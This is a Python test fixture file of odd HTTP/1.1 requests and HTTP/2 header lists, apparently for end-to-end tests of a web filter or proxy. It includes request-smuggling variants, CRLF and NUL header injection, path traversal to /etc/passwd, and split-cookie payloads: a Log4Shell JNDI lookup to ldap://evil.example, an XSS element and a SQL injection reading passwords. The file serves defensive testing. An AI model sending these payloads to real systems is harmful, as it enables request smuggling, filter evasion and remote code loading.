"""The requests of odd-requests.md, by the names that they have there: bytes for HTTP/1.1, header lists for HTTP/2."""

from e2e.attacks import ATTACKS

LOOKUP = ATTACKS["log4shell"].encode()
SQLI = ATTACKS["sqli"].encode()
JSON = b'{"q":"' + SQLI + b'"}'
HOST = b"Host: shop.example\r\n"
WEBSOCKET = b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"


def _line(line, headers=HOST):
    return line + b"\r\n" + headers + b"\r\n"


def _get(target=b"/", headers=b""):
    return _line(b"GET %s HTTP/1.1" % target, HOST + headers)


def _post(headers, body=JSON):
    return _line(b"POST /n HTTP/1.1", HOST + headers) + body


def _length(body=JSON):
    return b"Content-Length: %d\r\n" % len(body)


def _chunked(body=JSON, size=b"%x", end=b"0\r\n\r\n"):
    return (size % len(body)) + b"\r\n" + body + b"\r\n" + end


CHUNKED = b"Transfer-Encoding: chunked\r\n"

HTTP1 = {
    # Where a body ends
    "both Content-Length and Transfer-Encoding": _post(b"Content-Length: 6\r\n" + CHUNKED, _chunked()),
    "the same Content-Length twice": _post(_length() * 2),
    "two different Content-Lengths": _post(b"Content-Length: 3\r\n" + _length()),
    "a list of Content-Lengths": _post(b"Content-Length: %d, %d\r\n" % (len(JSON), len(JSON))),
    "a Content-Length with a sign": _post(b"Content-Length: +%d\r\n" % len(JSON)),
    "a negative Content-Length": _post(b"Content-Length: -1\r\n"),
    "Transfer-Encoding: chunked, identity": _post(b"Transfer-Encoding: chunked, identity\r\n", _chunked()),
    "Transfer-Encoding: identity": _post(b"Transfer-Encoding: identity\r\n" + _length()),
    "Transfer-Encoding: gzip, chunked": _post(b"Transfer-Encoding: gzip, chunked\r\n", _chunked()),
    "Transfer-Encoding: xchunked": _post(b"Transfer-Encoding: xchunked\r\n", _chunked()),
    "Transfer-Encoding twice": _post(CHUNKED * 2, _chunked()),
    "a space before the colon of Transfer-Encoding": _post(b"Transfer-Encoding : chunked\r\n", _chunked()),
    "Transfer-Encoding: Chunked": _post(b"Transfer-Encoding: Chunked\r\n", _chunked()),
    "Transfer-Encoding on a folded line": _post(b"Transfer-Encoding:\r\n chunked\r\n", _chunked()),
    "Transfer-Encoding in HTTP/1.0": _line(b"POST /n HTTP/1.0", HOST + CHUNKED) + _chunked(),
    "a chunk extension": _post(CHUNKED, _chunked(size=b"%x;a=b", end=b"0;c=d\r\n\r\n")),
    "a chunk extension that ends in a bare LF": _post(CHUNKED, b"%x;a\n%s\r\n0\r\n\r\n" % (len(JSON), JSON)),
    "a chunk size with 0x": _post(CHUNKED, _chunked(size=b"0x%x")),
    "a chunk size with a space": _post(CHUNKED, _chunked(size=b"%x ")),
    "a chunk size of 17 digits": _post(CHUNKED, b"fffffffffffffffff\r\n" + JSON),
    "an attack in a trailer of HTTP/1.1": _post(CHUNKED, _chunked(b"ok", end=b"0\r\nX-Note: %s\r\n\r\n" % LOOKUP)),
    "a body with GET": _get(b"/n", _length()) + JSON,
    "two content types": _post(b"Content-Type: image/png\r\nContent-Type: application/json\r\n" + _length()),
    "JSON called gRPC": _post(b"Content-Type: application/grpc\r\n" + _length()),
    # Lines and headers
    "line ends of a bare LF": _post(_length()).replace(b"\r\n", b"\n"),
    "a bare CR in a header": _get(headers=b"X-Note: " + LOOKUP.replace(b"jndi", b"j\rndi") + b"\r\n"),
    "NUL in a header": _get(headers=b"X-Note: a\0b\r\n"),
    "an attack on a folded line": _get(headers=b"X-Note: $\r\n " + LOOKUP + b"\r\n"),
    "empty lines before the request": b"\r\n\r\n" + _get(b"/?q=" + LOOKUP),
    "a space in a header name": _get(headers=b"X Note: 1\r\n"),
    "a byte 0x80 in a header name": _get(headers=b"X\x80: 1\r\n"),
    "a header without a name": _get(headers=b": 1\r\n"),
    "a header called :path": _get(headers=b":path: /other\r\n"),
    "a brace in a header name": _get(headers=b"X-${jndi: 1\r\n"),
    "a line without a colon": _get(headers=b"nonsense\r\n"),
    "a header name with _": _get(headers=b"x_note: " + LOOKUP + b"\r\n"),
    "a header of 70 KB": _get(headers=b"X-Note: " + b"a" * 70_000 + b"\r\n"),
    "120 headers": _get(headers=b"X-Note: 1\r\n" * 120),
    "Connection names the header of the origin secret": _get(headers=b"Connection: x-origin-verify\r\nX-Origin-Verify: 1\r\n"),
    # Hosts
    "two hosts": _get(headers=b"Host: evil.example\r\n"),
    "an attack in the second host": _get(headers=b"Host: " + LOOKUP + b"\r\n"),
    "no host": _line(b"GET / HTTP/1.1", b"X-Note: 1\r\n"),
    "an empty host": _line(b"GET / HTTP/1.1", b"Host:\r\n"),
    "an attack as host": _line(b"GET / HTTP/1.1", b"Host: " + LOOKUP + b"\r\n"),
    "a space in the host": _line(b"GET / HTTP/1.1", b"Host: a b\r\n"),
    # Targets
    "an absolute target": _get(b"http://other.example/a?b=c"),
    "an absolute target with an attack": _get(b"http://other.example/a?q=" + LOOKUP),
    "an absolute target with a user": _get(b"http://u:p@other.example/a"),
    "an absolute target of ftp": _get(b"ftp://shop.example/a"),
    "OPTIONS *": _line(b"OPTIONS * HTTP/1.1"),
    "GET *": _get(b"*"),
    "CONNECT to an authority": _line(b"CONNECT shop.example:443 HTTP/1.1"),
    "CONNECT to a path": _line(b"CONNECT /a HTTP/1.1"),
    "a target without a slash": _get(b"a/b"),
    "a target of ?": _get(b"?q=1"),
    "a fragment": _get(b"/a#?q=" + LOOKUP),
    "two slashes": _get(b"//a//b"),
    "two slashes and a host": _get(b"//evil.example/../etc"),
    "/%2e%2e/": _get(b"/%2e%2e/%2e%2e/etc/passwd"),
    "backslashes that climb": _get(b"/..\\..\\windows\\win.ini"),
    "a backslash": _get(b"/a\\b"),
    "a space in the target": _get(b"/a b"),
    "a tab in the target": _get(b"/a\tb"),
    "NUL in the target": _get(b"/a\0b"),
    "a byte 0xff in the target": _get(b"/a\xff"),
    "a target of 70 KB": _get(b"/" + b"a" * 70_000),
    # Methods and versions
    "a method in lower case": _line(b"get / HTTP/1.1"),
    "a method with %": _line(b"G%ET / HTTP/1.1"),
    "a method of its own": _line(b"FROBNICATE / HTTP/1.1"),
    "TRACE": _line(b"TRACE / HTTP/1.1"),
    "HTTP/0.9": b"GET /\r\n\r\n",
    "HTTP/1.2": _line(b"GET / HTTP/1.2"),
    "HTTP/3.0": _line(b"GET / HTTP/3.0"),
    # Upgrades
    "an upgrade to what is not configured": _post(b"Connection: Upgrade\r\nUpgrade: foo\r\n" + _length()),
    "an upgrade to h2c": _post(b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n" + _length()),
    "Upgrade without Connection": _post(b"Upgrade: websocket\r\n" + _length()),
    "an attack in a WebSocket handshake": _get(b"/?q=" + LOOKUP, b"Connection: Upgrade\r\nUpgrade: websocket\r\n" + WEBSOCKET),
}


def _h2(*headers, body=None, trailers=None, **pseudo):
    """A request over HTTP/2; a pseudo-header that is None is left out."""
    told = {"method": b"GET", "scheme": b"http", "authority": b"shop.example", "path": b"/", **pseudo}
    return [*((b":" + name.encode(), value) for name, value in told.items() if value is not None), *headers], body, trailers


def _h2_post(*headers, body=JSON, trailers=None):
    return _h2(*headers, body=body, trailers=trailers, method=b"POST")


NOTE = (b"x-note", LOOKUP)

HTTP2 = {
    # Cookies, which HTTP/2 cuts into crumbs
    "cookie crumbs": _h2((b"cookie", b"a=1"), (b"cookie", b"b=2")),
    "an attack in a crumb": _h2((b"cookie", b"a=1"), (b"cookie", b"b=" + LOOKUP)),
    "a crumb without =": _h2((b"cookie", LOOKUP)),
    "a lookup over two crumbs": _h2((b"cookie", b"a=${${x"), (b"cookie", b"b=y:-j}ndi:ldap://evil.example/a}")),
    "an element over two crumbs": _h2((b"cookie", b"a=<img src=x"), (b"cookie", b"onerror=alert(1)>")),
    "SQL over two crumbs": _h2((b"cookie", b"a=1' UNION/*"), (b"cookie", b"b=*/SELECT password FROM users--")),
    "150 crumbs": _h2(*((b"cookie", b"a%d=1" % i) for i in range(150))),
    # Pseudo-headers
    "a space in :path": _h2(path=b"/?q=" + SQLI),
    "CR LF in :path": _h2(path=b"/a\r\nX-Note: 1"),
    "NUL in :path": _h2(path=b"/a\0b"),
    "a byte 0xff in :path": _h2(path=b"/a\xff?q=" + LOOKUP),
    "an empty :path": _h2(path=b""),
    "no :path": _h2(path=None),
    ":path without a slash": _h2(path=b"a/b"),
    ":path is absolute": _h2(path=b"http://other.example/a"),
    ":path of OPTIONS is *": _h2(method=b"OPTIONS", path=b"*"),
    ":path with a fragment": _h2(path=b"/a#b"),
    ":path twice": _h2((b":path", b"/other")),
    ":path with <>\"{}|^": _h2(path=b"/a<b>\"{c}|^"),
    "a space in :method": _h2(method=b"GET /a"),
    "an attack in :method": _h2(method=LOOKUP),
    "an attack in :scheme": _h2(scheme=LOOKUP),
    ":scheme of ftp": _h2(scheme=b"ftp"),
    "an attack in :authority": _h2(authority=LOOKUP),
    ":authority with a user": _h2(authority=b"u:p@shop.example"),
    ":authority twice": _h2((b":authority", b"evil.example")),
    ":authority and another host": _h2((b"host", b"evil.example")),
    "host and no :authority": _h2((b"host", b"shop.example"), authority=None),
    "an attack in host": _h2((b"host", LOOKUP), authority=None),
    "a pseudo-header behind a header": _h2((b"x-note", b"1"), (b":path", b"/a"), path=None),
    "an unknown pseudo-header": _h2((b":note", b"1")),
    ":status in a request": _h2((b":status", b"200")),
    "CONNECT": _h2(method=b"CONNECT", scheme=None, path=None),
    "extended CONNECT": _h2(method=b"CONNECT", protocol=b"websocket"),
    # Headers
    "a header name in upper case": _h2((b"X-Note", b"1")),
    "a space in a header name": _h2((b"x note", b"1")),
    "a colon in a header name": _h2((b"x:note", b"1")),
    "an attack in a header name": _h2((b"x-' or '1'='1", b"1")),
    "a header without a name": _h2((b"", b"1")),
    "CR in a header": _h2((b"x-note", b"1\r2")),
    "LF in a header": _h2((b"x-note", b"1\nx-other: 2")),
    "NUL in a header": _h2((b"x-note", b"1\0")),
    "bytes 0x80-0xff in a header": _h2((b"x-note", b"\xff\x80" + LOOKUP)),
    "connection": _h2((b"connection", b"close")),
    "upgrade": _h2_post((b"upgrade", b"websocket")),
    "transfer-encoding": _h2_post((b"transfer-encoding", b"chunked"), body=_chunked()),
    "te: gzip": _h2((b"te", b"gzip")),
    "content-length below what comes": _h2_post((b"content-length", b"3")),
    "content-length above what comes": _h2_post((b"content-length", b"300")),
    "content-length twice": _h2_post((b"content-length", b"57"), (b"content-length", b"57")),
    "two content types": _h2_post((b"content-type", b"image/png"), (b"content-type", b"application/json")),
    "a header of 70 KB": _h2((b"x-note", b"a" * 70_000)),
    "120 headers": _h2(*((b"x-note", b"1") for _ in range(120))),
    # Trailers, and what is not held
    "an attack in a trailer": _h2_post(body=b"plain words", trailers=[NOTE]),
    "an attack in a trailer without a body": _h2(trailers=[NOTE]),
    "an attack in a cookie in the trailers": _h2_post(body=b"plain words", trailers=[(b"cookie", b"a=" + LOOKUP)]),
    "a pseudo-header in the trailers": _h2_post(body=b"plain words", trailers=[(b":path", b"/a")]),
    "the origin secret's header in the trailers": _h2_post(body=b"plain words", trailers=[(b"x-origin-verify", b"guess")]),
    "an attack in a trailer of gRPC": _h2_post((b"content-type", b"application/grpc"), body=b"\0\0\0\0\1x", trailers=[NOTE]),
    "JSON called gRPC": _h2_post((b"content-type", b"application/grpc"), (b"te", b"trailers")),
    "JSON called gRPC-Web": _h2_post((b"content-type", b"application/grpc-web-text")),
}  # fmt: skip
